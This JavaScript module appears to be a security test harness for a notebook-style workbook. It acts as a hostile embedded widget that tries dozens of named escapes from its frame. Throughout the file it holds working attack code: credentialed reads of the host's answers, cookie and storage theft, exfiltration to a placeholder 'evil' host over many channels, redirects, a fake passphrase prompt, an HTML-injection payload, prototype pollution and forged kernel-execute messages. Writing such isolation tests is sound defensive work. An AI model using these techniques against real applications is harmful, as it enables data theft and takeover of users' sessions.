// What a foreign widget may try from the frame in which it is shown, each attack by its name.
//
// An attack gets “own” (the address of the workbook), “evil” (that of somebody else), “slug”, “other” (the id of a
// field’s widget that another cell shows), “mine” (its own), and “port” (the line of its frame, which it has got hold
// of). It returns what it has got, and nothing or an error where it got nothing.

const make = (name, given) => {
  const made = document.createElement(name);
  for (const [key, value] of Object.entries(given)) made[key] = value;
  document.body.append(made);
  return made;
};
const heard = () => new Promise((give) => setTimeout(give, 100));
const loaded = (it) => new Promise((give, fail) => {
  it.onload = () => give("loaded");
  it.onerror = fail;
  setTimeout(fail, 1500);
});
const inside = async (it) => (await loaded(it)) && it.contentDocument.body.innerText;
const opened = (it) => new Promise((give, fail) => {
  it.onopen = it.onmessage = () => give("opened");
  it.onerror = fail;
  setTimeout(fail, 1500);
});
const lines = new Set();
const post = MessagePort.prototype.postMessage;
MessagePort.prototype.postMessage = function (...given) { lines.add(this); return post.apply(this, given); };
// Those after which the frame is still there.
const fromItsFrame = {
  "fetch the answers": async ({ own, evil, slug, other, port, mine, answered }) => {
    return (await fetch(own + 'answers', { credentials: 'include' })).text();
  },
  "fetch a copy": async ({ own, evil, slug, other, port, mine, answered }) => {
    return (await fetch(own + 'answers/copy', { mode: 'no-cors', credentials: 'include' })).type;
  },
  "ask by XMLHttpRequest": async ({ own, evil, slug, other, port, mine, answered }) => {
    return new Promise((give, fail) => {
    const asked = new XMLHttpRequest();
    asked.open("GET", own + "answers");
    asked.withCredentials = true;
    asked.onload = () => give(asked.responseText || "an answer");
    asked.onerror = fail;
    asked.send();
        });
  },
  "open the line of the answers": async ({ own, evil, slug, other, port, mine, answered }) => {
    return opened(new WebSocket(`${own.replace('http', 'ws')}live/${slug}`));
  },
  "open the line of the cells": async ({ own, evil, slug, other, port, mine, answered }) => {
    return opened(new WebSocket(`${own.replace('http', 'ws')}cells/${slug}`));
  },
  "open an event source": async ({ own, evil, slug, other, port, mine, answered }) => {
    return opened(new EventSource(own + 'answers'));
  },
  "send a beacon home": async ({ own, evil, slug, other, port, mine, answered }) => {
    return navigator.sendBeacon(own + 'answers/forget', '{}') && heard();
  },
  "import a script of the workbook": async ({ own, evil, slug, other, port, mine, answered }) => {
    return import(own + 'static/shell.js');
  },
  "add a script of the workbook": async ({ own, evil, slug, other, port, mine, answered }) => {
    return loaded(make('script', { src: own + 'static/shell.js' }));
  },
  "add a sheet of the workbook": async ({ own, evil, slug, other, port, mine, answered }) => {
    return loaded(make('link', { rel: 'stylesheet', href: own + 'static/look.css' }));
  },
  "show a page as a picture": async ({ own, evil, slug, other, port, mine, answered }) => {
    return loaded(make('img', { src: own + 'answers' }));
  },
  "show a page as an object": async ({ own, evil, slug, other, port, mine, answered }) => {
    return inside(make('object', { data: own + 'answers', type: 'text/html' }));
  },
  "show a page as an embed": async ({ own, evil, slug, other, port, mine, answered }) => {
    return inside(make('embed', { src: own + 'answers', type: 'text/html' }));
  },
  "show a page in a frame": async ({ own, evil, slug, other, port, mine, answered }) => {
    return inside(make('iframe', { src: own + 'answers' }));
  },
  "ask from an empty frame": async ({ own, evil, slug, other, port, mine, answered }) => {
    const frame = make("iframe", {});
    return (await frame.contentWindow.fetch(own + "answers", { credentials: "include" })).text();
  },
  "ask from a frame of text": async ({ own, evil, slug, other, port, mine, answered }) => {
    const frame = make("iframe", {
      srcdoc: `<script>fetch("${evil}from-text", { mode: "no-cors" })</script>` });
    await loaded(frame);
    return heard();
  },
  "read the local storage": async ({ own, evil, slug, other, port, mine, answered }) => {
    return JSON.stringify({ ...localStorage });
  },
  "read the session storage": async ({ own, evil, slug, other, port, mine, answered }) => {
    return JSON.stringify({ ...sessionStorage });
  },
  "read the cookies": async ({ own, evil, slug, other, port, mine, answered }) => {
    return document.cookie;
  },
  "open a database": async ({ own, evil, slug, other, port, mine, answered }) => {
    return new Promise((give, fail) => {
    const asked = indexedDB.open("workbook");
    asked.onsuccess = () => give("a database");
    asked.onerror = fail;
        });
  },
  "open the cache": async ({ own, evil, slug, other, port, mine, answered }) => {
    return (await caches.open('workbook')) && 'a cache';
  },
  "keep a file": async ({ own, evil, slug, other, port, mine, answered }) => {
    return (await navigator.storage.getDirectory()) && 'a folder';
  },
  "register a service worker": async ({ own, evil, slug, other, port, mine, answered }) => {
    return navigator.serviceWorker.register(own + 'static/shell.js');
  },
  "begin a worker of the workbook": async ({ own, evil, slug, other, port, mine, answered }) => {
    return opened(new Worker(own + 'static/shell.js'));
  },
  "begin a shared worker": async ({ own, evil, slug, other, port, mine, answered }) => {
    return opened(new SharedWorker(own + 'static/shell.js').port);
  },
  "read the page": async ({ own, evil, slug, other, port, mine, answered }) => {
    return parent.document.body.innerText;
  },
  "read the address of the page": async ({ own, evil, slug, other, port, mine, answered }) => {
    return parent.location.href;
  },
  "call a function of the page": async ({ own, evil, slug, other, port, mine, answered }) => {
    return parent.workbookSays('hacked') ?? 'called';
  },
  "hear what pages say to each other": async ({ own, evil, slug, other, port, mine, answered }) => {
    return new Promise((give) => {
    const line = new BroadcastChannel("workbook");
    line.onmessage = ({ data }) => give(data);
    setTimeout(give, 200);
        });
  },
  "read another cell": async ({ own, evil, slug, other, port, mine, answered }) => {
    return [...Array(parent.length).keys()].map((at) => parent[at].document.body.innerText);
  },
  "pretend to be the page": async ({ own, evil, slug, other, port, mine, answered }) => {
    const { port1, port2 } = new MessageChannel();
    const got = new Promise((give) => { port1.onmessage = ({ data }) => give(data); setTimeout(give, 300); });
    for (let at = 0; at < parent.length; at += 1) {
      if (parent[at] === self) continue;
      const spare = new MessageChannel();
      spare.port1.onmessage = ({ data }) => port2.postMessage(data);
      parent[at].postMessage("workbook", "*", [spare.port2]);
    }
    return got;
  },
  "send the page away": async ({ own, evil, slug, other, port, mine, answered }) => {
    top.location = evil + 'top'; return heard();
  },
  "send the page away by a link": async ({ own, evil, slug, other, port, mine, answered }) => {
    make('a', { href: evil + 'link', target: '_top' }).click(); return heard();
  },
  "open a window": async ({ own, evil, slug, other, port, mine, answered }) => {
    return window.open(evil + 'window') && 'a window';
  },
  "open a window by a link": async ({ own, evil, slug, other, port, mine, answered }) => {
    make('a', { href: evil + 'blank', target: '_blank' }).click(); return heard();
  },
  "keep a download": async ({ own, evil, slug, other, port, mine, answered }) => {
    make("a", { href: URL.createObjectURL(new Blob(["x"])), download: "x.txt" }).click();
    return undefined;
  },
  "ask in a dialogue": async ({ own, evil, slug, other, port, mine, answered }) => {
    return confirm('Your passphrase?') || prompt('Your passphrase?');
  },
  "fetch from elsewhere": async ({ own, evil, slug, other, port, mine, answered }) => {
    await fetch(evil + 'fetch', { mode: 'no-cors' }); return heard();
  },
  "tell elsewhere by a picture": async ({ own, evil, slug, other, port, mine, answered }) => {
    make('img', { src: evil + 'picture?words' }); return heard();
  },
  "tell elsewhere by a sheet": async ({ own, evil, slug, other, port, mine, answered }) => {
    const style = make("style", {});
    style.textContent = `@import "${evil}sheet"; body { background: url(${evil}background); }
      @font-face { font-family: f; src: url(${evil}font); } body { font-family: f; }`;
    return heard();
  },
  "tell elsewhere by a video": async ({ own, evil, slug, other, port, mine, answered }) => {
    make('video', { src: evil + 'video', autoplay: true }); return heard();
  },
  "tell elsewhere by a beacon": async ({ own, evil, slug, other, port, mine, answered }) => {
    navigator.sendBeacon(evil + 'beacon', 'words'); return heard();
  },
  "tell elsewhere by a socket": async ({ own, evil, slug, other, port, mine, answered }) => {
    return opened(new WebSocket(evil.replace('http', 'ws')));
  },
  "tell elsewhere from a worker": async ({ own, evil, slug, other, port, mine, answered }) => {
    const text = `fetch("${evil}worker", { mode: "no-cors" })`;
    new Worker(URL.createObjectURL(new Blob([text], { type: "text/javascript" })));
    return heard();
  },
  "tell elsewhere by a call": async ({ evil }) => {
    const iceServers = [{ urls: evil.replace("http://", "stun:").replace("/", "") }];
    const Call = globalThis.RTCPeerConnection ?? globalThis.webkitRTCPeerConnection ?? make("iframe", {}).contentWindow.RTCPeerConnection;
    const call = new Call({ iceServers });
    call.createDataChannel("words");
    await call.setLocalDescription(await call.createOffer());
    return heard();
  },
  "send a form": async ({ own, evil, slug, other, port, mine, answered }) => {
    const form = make("form", { action: evil + "form", method: "post", target: "_blank" });
    form.submit();
    return heard();
  },
  "look up a name elsewhere": async ({ own, evil, slug, other, port, mine, answered }) => {
    make("link", { rel: "prefetch", href: evil + "prefetch" });
    make("link", { rel: "modulepreload", href: evil + "preload" });
    return heard();
  },
  "read the clipboard": async ({ own, evil, slug, other, port, mine, answered }) => {
    return navigator.clipboard.readText();
  },
  "find out the place": async ({ own, evil, slug, other, port, mine, answered }) => {
    return new Promise((give, fail) =>
    navigator.geolocation.getCurrentPosition(({ coords }) => give(coords.latitude), fail));
  },
  "use the camera": async ({ own, evil, slug, other, port, mine, answered }) => {
    return (await navigator.mediaDevices.getUserMedia({ video: true })) && 'a picture';
  },
  "fill the screen": async ({ own, evil, slug, other, port, mine, answered }) => {
    await document.documentElement.requestFullscreen(); return 'all of it';
  },
  "take a widget of another cell": async ({ own, evil, slug, other, port, mine, answered }) => {
    return answered({ do: 'want', id: other }, (said) => said.model);
  },
  "write into a field of another cell": async ({ own, evil, slug, other, port, mine, answered }) => {
    port.postMessage({ do: "send", id: other, n: "1", buffers: [],
      data: { method: "custom", content: { do: "put", key: slug + ".asked", value: "hacked", seq: 9 } } });
    port.postMessage({ do: "send", id: other, n: "2", buffers: [],
      data: { method: "update", state: { value: "hacked" }, buffer_paths: [] } });
    return undefined;
  },
  "leave a draft for a field of another cell": async ({ own, evil, slug, other, port, mine, answered }) => {
    const wish = { aim: { do: "put" }, rev: 0, value: "hacked", sent: [] };
    for (const id of [other, mine]) port.postMessage({ do: "hold", id, wish });
    return answered({ do: "want", id: other }, (said) => said.wish);
  },
  "let the kernel run something": async ({ own, evil, slug, other, port, mine, answered }) => {
    port.postMessage({ do: "send", id: mine, n: "3", buffers: [],
      data: { method: "execute", code: "page.answers['x.y'] = 'hacked'" } });
    port.postMessage({ do: "execute", code: "page.answers['x.y'] = 'hacked'" });
    return undefined;
  },
  "fetch through the page": async ({ own, evil, slug, other, port, mine, answered }) => {
    return answered({ do: 'library', name: 'base' }, (said) => said.text);
  },
  "write into the page": async ({ own, evil, slug, other, port, mine, answered }) => {
    port.postMessage({ do: "trouble", why: "<img src=x onerror=\"document.title='hacked'\">" });
    return undefined;
  },
  "cover the page": async ({ own, evil, slug, other, port, mine, answered }) => {
    port.postMessage({ do: 'size', height: 1e9 }); return undefined;
  },
  "change what all objects have": async ({ own, evil, slug, other, port, mine, answered }) => {
    port.postMessage(JSON.parse('{"do":"want","id":"__proto__","__proto__":{"hacked":1}}'));
    return undefined;
  },
};

// Those that give their frame up.
const goingAway = {
  "go elsewhere": async ({ own, evil, slug, other, port, mine, answered }) => {
    location = evil + 'away';
  },
  "go elsewhere by a refresh": async ({ own, evil, slug, other, port, mine, answered }) => {
    make("meta", { httpEquiv: "refresh", content: `0; url=${evil}refresh` });
  },
  "go elsewhere by a form": async ({ own, evil, slug, other, port, mine, answered }) => {
    make('form', { action: evil + 'form-away', method: 'post' }).submit();
  },
  "go to the answers": async ({ own, evil, slug, other, port, mine, answered }) => {
    location = own + 'answers';
  },
  "become another document": async ({ own, evil, slug, other, port, mine, answered }) => {
    document.open();
    document.write(`<img src="${evil}written"><script>fetch("${evil}script")</script>`);
    document.close();
  },
};

const all = { ...fromItsFrame, ...goingAway };
async function render({ model, el }) {
  const { own, evil, slug, other, tries } = model.get("given");
  model.send({ about: "nothing" });
  const [port] = lines;
  const mine = model.id;
  const answered = (asks, got) => new Promise((give) => {
    const hear = port.onmessage;
    port.onmessage = (event) => { if (got(event.data)) give(got(event.data)); hear.call(port, event); };
    port.postMessage(asks);
    setTimeout(give, 300);
  });
  if (tries[0] === "take the keys") {
    el.innerHTML = "<input>";
    setTimeout(() => setInterval(() => el.firstChild.focus(), 20), 200);
    return;
  }
  const results = {};
  for (const name of tries) {
    const attack = all[name];
    try {
      const got = await attack({ own, evil, slug, other, port, mine, answered });
      results[name] = got ? `got ${String(got).slice(0, 100)}` : "nothing";
    } catch (error) {
      results[name] = `refused ${error?.name ?? ""}`;
    }
  }
  el.textContent = JSON.stringify(results);
}
export default { render };
